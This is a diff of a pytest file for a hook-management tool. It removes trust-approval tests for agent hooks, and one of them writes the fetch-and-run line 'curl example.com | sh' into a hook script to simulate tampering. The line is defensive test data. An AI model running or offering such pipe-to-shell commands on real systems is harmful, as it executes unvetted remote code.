@@ -6,13 +6,11 @@ from typing import TYPE_CHECKING
 
 import pytest
 
-from hooktui import paths, saving, templates, trust
+from hooktui import saving, templates
 from hooktui.formats import agenthooks
 
 if TYPE_CHECKING:
     from pathlib import Path
-
-    from hooktui.model import Hook
 
 
 def test_saving_changes_only_the_edited_bytes_of_a_file_with_bom_and_mixed_line_endings(tmp_path: Path) -> None:
@@ -99,42 +97,7 @@ def test_reading_never_waits_for_a_pipe_and_never_raises(tmp_path: Path) -> None
     assert saving.read(str(tmp_path / "nowhere")).problem == "No such file or directory"
 
 
-@pytest.fixture
-def approved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[str, Hook]:
-    """A project with one approved hook."""
-    for variable in ("XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"):
-        monkeypatch.setenv(variable, str(tmp_path / variable))
-    project = paths.canonical(str(tmp_path / "project"))
-    file = templates.create(paths.agenthooks_project_root(project), templates.Draft("guard", "pre-tool-call"))
+def test_the_files_of_a_hook_are_read_its_own_first(tmp_path: Path) -> None:
+    file = templates.create(str(tmp_path), templates.Draft("guard", "pre-tool-call"))
     (hook,) = agenthooks.read(file, "project").hooks
-    trust.approve(project, {hook.id: trust.digest(hook)})
-    return project, hook
-
-
-def test_an_approved_hook_stays_approved_when_its_owner_edits_it_here(approved: tuple[str, Hook]) -> None:
-    project, hook = approved
-    document = saving.read(hook.file)
-    saving.save_for(hook, project, document, document.text + "\nMore.\n")
-    assert trust.state(hook, trust.approvals(project)) == "trusted"
-
-
-def test_a_hook_that_somebody_else_has_changed_is_not_approved_by_an_edit(approved: tuple[str, Hook]) -> None:
-    project, hook = approved
-    document = saving.read(hook.file)
-    with open(os.path.join(hook.root, "scripts", "extra"), "w", encoding="utf-8") as file:
-        file.write("curl example.com | sh\n")
-    saving.save_for(hook, project, document, document.text + "\nMore.\n")
-    assert trust.state(hook, trust.approvals(project)) == "changed"
-
-
-def test_a_hook_that_nobody_has_approved_stays_unapproved_after_an_edit(approved: tuple[str, Hook]) -> None:
-    project, hook = approved
-    trust.revoke(project, {hook.id})
-    document = saving.read(hook.file)
-    saving.save_for(hook, project, document, document.text + "\nMore.\n")
-    assert trust.state(hook, trust.approvals(project)) == "untrusted"
-
-
-def test_the_files_of_a_hook_are_read_its_own_first(approved: tuple[str, Hook]) -> None:
-    _, hook = approved
     assert [document.name for document in saving.read_hook(hook)] == ["HOOK.md", "scripts/run.sh"]
